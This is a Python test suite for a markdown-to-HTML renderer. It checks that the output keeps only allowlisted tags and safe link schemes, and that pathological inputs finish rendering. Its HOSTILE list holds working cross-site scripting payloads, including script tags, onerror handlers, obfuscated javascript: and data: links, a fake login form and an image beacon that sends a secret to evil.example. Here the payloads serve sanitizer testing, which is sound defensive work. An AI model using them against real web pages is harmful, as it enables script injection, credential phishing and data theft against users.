from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from logs_app.presentation.markdown import may_lead_to, render

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<style>body{display:none}</style>",
    "<iframe src=https://evil.example></iframe>",
    "</div></article></main><h1>Log in again</h1><form action=https://evil.example>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox)",
    "[click](/admin/logout/)",
    "[click](//evil.example)",
    "[click](https://)",
    "![beacon](https://evil.example/?secret)",
    '![x](x" onerror="alert(1))',
    "![beacon][b]\n\n[b]: https://evil.example/x.png",
    '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
    "<javascript:alert(1)>",
    '<https://evil.example/"onclick=alert(1)>',
    "[a](https://a.example/'onclick='alert(1) \"t\")",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext></table><img src=x onerror=alert(1)>",
]
TAG = re.compile(r"<[^>]*>")
# All that may stand in what comes out.
ALLOWED = re.compile(
    r"</?(?:h[456]|p|br|hr|ul|ol|li|blockquote|pre|code|em|strong|s|del|table|thead|tbody|tr|th|td|span|a)"
    r"(?: (?:href=\"(?:https?://|mailto:)[^\"<>]*\"|rel=\"noopener noreferrer nofollow\"|title=\"[^\"<>]*\""
    r"|class=\"(?:is-image|redacted|hidden-character)\"|start=\"\d+\"|data-language=\"[^\"<>]*\"))*>"
)


def is_harmless(html: str) -> bool:
    return all(ALLOWED.fullmatch(tag) for tag in TAG.findall(html)) and "<" not in TAG.sub("", html)


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_hostile_comes_through(text):
    html = render(text)
    assert is_harmless(html), html
    assert "<img" not in html and "<script" not in html


@given(st.lists(st.sampled_from([*HOSTILE, "**", "`", "> ", "\n", "- ", "[EMAIL_1]", "\u202e"]), max_size=6))
def test_nothing_hostile_comes_through_in_any_company(texts):
    assert is_harmless(render("".join(texts)))


@given(st.text())
def test_any_text_is_harmless(text):
    assert is_harmless(render(text))


def test_what_people_write_is_shown_as_they_mean_it():
    html = render(
        "# Title\n\n*so* **strong** `code` ~~no~~\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    for wanted in (
        "<h4>Title</h4>",
        "<em>so</em>",
        "<strong>strong</strong>",
        "<li>one</li>",
        "<td>2</td>",
        "<s>no</s>",
    ):
        assert wanted in html


def test_lines_stay_lines():
    assert render("one\ntwo") == "<p>one<br>\ntwo</p>\n"


def test_code_keeps_its_language_and_its_letters():
    assert render("```py\na < b\n```") == '<pre data-language="py"><code>a &lt; b\n</code></pre>\n'


def test_a_picture_is_a_link_to_it_and_is_not_loaded():
    html = render("![A cat](https://a.example/cat.png)")
    link = '<a class="is-image" href="https://a.example/cat.png" rel="noopener noreferrer nofollow">A cat</a>'
    assert html == f"<p>{link}</p>\n"


def test_what_was_redacted_is_marked_in_prose_and_in_code():
    html = render("Write to [EMAIL_1], `[PHONE_2]`")
    assert html.count('<span class="redacted">') == 2


@pytest.mark.parametrize(
    ("address", "may"),
    [
        ("https://a.example/b", True),
        ("HTTP://a.example", True),
        ("mailto:a@a.example", True),
        ("javascript:alert(1)", False),
        ("data:text/html,x", False),
        ("/admin/", False),
        ("//a.example", False),
        ("https:evil", False),
        ("http://[", False),
    ],
)
def test_links_lead_to_the_web_and_to_mail(address, may):
    assert may_lead_to(address) is may


@pytest.mark.parametrize(
    "text", ["*a _b " * 3000, "[" * 8000, "> " * 3000, "![[]()" * 3000, "`" * 20000, "**a" * 3000]
)
def test_hostile_repetition_ends(text):
    assert render(text)
